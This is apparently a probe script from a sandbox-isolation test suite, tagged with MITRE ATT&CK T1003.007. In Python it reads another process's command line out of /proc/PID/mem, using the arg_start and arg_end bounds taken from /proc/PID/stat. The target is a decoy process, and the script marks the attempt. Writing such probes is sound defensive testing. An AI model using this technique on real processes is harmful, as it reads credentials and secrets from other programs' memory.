# family: injection
# tries: read a host process's command line out of its memory through /proc/PID/mem (the decoy, argv 7), at the bounds /proc/PID/stat gives
# source: https://attack.mitre.org/techniques/T1003/007/
# exfil: yes
# stopped-when: canary-unread
# attempted-when: marker
import sys

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
print(f"ATTEMPTED {sys.argv[1]}", file=sys.stderr, flush=True)
decoy = sys.argv[7]
try:
    with open(f"/proc/{decoy}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    # fields[0] is field 3 (state); arg_start and arg_end are 48 and 49.
    start, end = int(fields[45]), int(fields[46])
    with open(f"/proc/{decoy}/mem", "rb") as mem:
        mem.seek(start)
        print(mem.read(min(end - start, 1 << 16)).replace(b"\0", b" ").decode(errors="replace"))
except (OSError, IndexError, ValueError) as e:
    print(f"/proc/{decoy}: {e}")
